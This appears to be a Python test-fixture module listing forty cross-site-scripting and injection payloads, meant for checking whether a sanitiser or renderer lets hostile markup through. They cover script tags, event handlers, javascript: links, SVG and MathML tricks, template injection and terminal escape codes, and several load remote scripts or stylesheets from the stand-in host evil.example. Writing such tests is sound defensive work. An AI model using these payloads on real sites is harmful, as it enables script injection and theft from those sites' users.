"""Forty texts that would run, load or overwrite something if anybody took them for more than text.

Each carries a marker, by which an element or a request that came of it is known; a payload that runs sets
`window.__pwned`.
"""

__all__ = ["MARKER", "PAYLOADS"]

MARKER = "pwn3d"
RUN = "window.__pwned=1"
PAYLOADS = (
    f"<script>{RUN}//pwn3d</script>",
    f"</script><script>{RUN}//pwn3d</script>",
    "<script src=//evil.example/pwn3d.js></script>",
    f"<script type=module>{RUN}//pwn3d</script>",
    f"<ScRiPt/x>{RUN}//pwn3d</sCrIpT>",
    f"<img src=pwn3d onerror={RUN}>",
    f'"><img src="pwn3d" onerror="{RUN}">',
    f"'><img src='pwn3d' onerror='{RUN}'>",
    f"<img src=`pwn3d` onerror=`{RUN}`>",
    "<img src=http://evil.example/pwn3d.png>",
    f"<svg id=pwn3d onload={RUN}>",
    f"<svg><script>{RUN}//pwn3d</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=pwn3d dur=1s>",
    "<svg><use href='data:image/svg+xml;base64,pwn3d#x'/></svg>",
    f"<svg><foreignObject><iframe srcdoc=pwn3d onload={RUN}></foreignObject></svg>",
    f"<math href=javascript:{RUN} id=pwn3d>x</math>",
    f"<math><mtext><table><mglyph><style><img src=pwn3d onerror={RUN}>",
    "<iframe srcdoc='<script>parent.__pwned=1//pwn3d</script>'></iframe>",
    "<iframe src=javascript:parent.__pwned=1 name=pwn3d></iframe>",
    "<object data=//evil.example/pwn3d></object>",
    "<embed src=//evil.example/pwn3d>",
    f"<a href=javascript:{RUN} id=pwn3d>press</a>",
    f"[press](javascript:{RUN}//pwn3d)",
    "![x](http://evil.example/pwn3d.png)",
    f"javascript:{RUN}//pwn3d",
    f"data:text/html,<script>{RUN}//pwn3d</script>",
    f"<input autofocus onfocus={RUN} name=pwn3d>",
    f"<details open ontoggle={RUN} id=pwn3d>x</details>",
    f"<video><source onerror={RUN} src=pwn3d></video>",
    "<style>@import'//evil.example/pwn3d.css'</style>",
    "<style>*{background:url(//evil.example/pwn3d)}</style>",
    "<link rel=stylesheet href=//evil.example/pwn3d.css>",
    "<base href=//evil.example/pwn3d/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/pwn3d'>",
    f"<form action=//evil.example/pwn3d><button formaction=javascript:{RUN}>x",
    f"&lt;img src=pwn3d onerror={RUN}&gt;",
    f"&#60;img src=pwn3d onerror={RUN}&#62;",
    f"{{{{pwn3d.constructor.constructor('{RUN}')()}}}}${{{RUN}}}<%={RUN}%>",
    f"\N{RIGHT-TO-LEFT OVERRIDE}<img src=pwn3d onerror={RUN}>\N{POP DIRECTIONAL FORMATTING}\N{ZERO WIDTH SPACE}",
    f"\x1b]0;pwn3d\x07\x1b[2J<b onmouseover={RUN}>x</b>%3Cscript%3E{RUN}%3C/script%3E",
    f"$\\href{{javascript:{RUN}}}{{pwn3d}}$ <template><script>{RUN}</script></template>",
)
